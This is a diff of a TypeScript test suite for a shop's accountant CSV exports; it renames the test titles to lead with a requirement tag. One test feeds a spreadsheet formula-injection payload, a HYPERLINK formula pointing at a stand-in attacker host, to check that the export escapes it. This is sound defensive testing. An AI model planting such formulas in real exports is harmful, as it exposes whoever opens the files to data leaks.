@@ -32,7 +32,7 @@ const linesWith = async (file: string, year: number, text: string) => {
 };
 
 describe('the files for an accountant', () => {
-  it('begin with a byte order mark and their columns (MY-04)', async () => {
+  it('[MY-04] begin with a byte order mark and their columns', async () => {
     const { statusCode, headers, body } = await download('journal.csv', 2030);
 
     expect(statusCode).toBe(200);
@@ -47,7 +47,7 @@ describe('the files for an accountant', () => {
     expect((await audited('journal-2030-31.csv'))[0]).toMatchObject({ action: 'report.exported' });
   });
 
-  it('have payments, mistakes and refunds on their days (MY-04)', async () => {
+  it('[MY-04] have payments, mistakes and refunds on their days', async () => {
     const { order_id, order_number, total_amount } = await placeUntil('dispatched');
     const fee = {
       fee_paise: toPaise(33.04),
@@ -77,7 +77,7 @@ describe('the files for an accountant', () => {
     expect(line).toContain(',200.55,200.55,');
   });
 
-  it('have no revenue of an unpaid order, and count it when it is paid (MY-04, P-08)', async () => {
+  it('[MY-04] have no revenue of an unpaid order, and count it when it is paid', async () => {
     const order = await placeUntil('dispatched');
     expect(await linesWith('revenue', 2026, order.order_number)).toEqual([]);
 
@@ -92,7 +92,7 @@ describe('the files for an accountant', () => {
     expect(await linesWith('revenue', 2027, order.order_number)).toEqual([`2027-04-02,${row},300`]);
   });
 
-  it('make no formula of a reference (MY-04)', async () => {
+  it('[MY-04] make no formula of a reference', async () => {
     const order = await placeUntil('dispatched');
     const reference = `=HYPERLINK("https://evil.example/${order.order_number}")`;
 
@@ -102,7 +102,7 @@ describe('the files for an accountant', () => {
     expect(line).toContain(`"'=HYPERLINK(""https://evil.example/${order.order_number}"")"`);
   });
 
-  it('name whoever has recorded a payment, and all orders that it paid (MY-04)', async () => {
+  it('[MY-04] name whoever has recorded a payment, and all orders that it paid', async () => {
     const first = await placeUntil('dispatched');
     const second = await placeUntil('dispatched');
     const { user_id: staff_id } = await shop.db
@@ -123,7 +123,7 @@ describe('the files for an accountant', () => {
     expect(line).toMatch(/,14600,INR,,,\S/);
   });
 
-  it('are offered from the first year with money to this one (MY-04)', async () => {
+  it('[MY-04] are offered from the first year with money to this one', async () => {
     const order = await placeUntil('dispatched');
     await receive(shop.db, order.order_id, 1, { received_on: '2025-03-31' });
 
@@ -136,12 +136,12 @@ describe('the files for an accountant', () => {
     ['journal.csv', '', 422],
     ['journal', '2026', 404],
     ['customers.csv', '2026', 404],
-  ])('are refused for %s of %s (MY-04)', async (file, year, status) => {
+  ])('[MY-04] are refused for %s of %s', async (file, year, status) => {
     expect((await download(file, year)).statusCode).toBe(status);
   });
 });
 
-it('a financial year has the months from April to March (MY-04)', () => {
+it('[MY-04] a financial year has the months from April to March', () => {
   const months = monthsOfYear(2027);
 
   expect(months).toHaveLength(12);
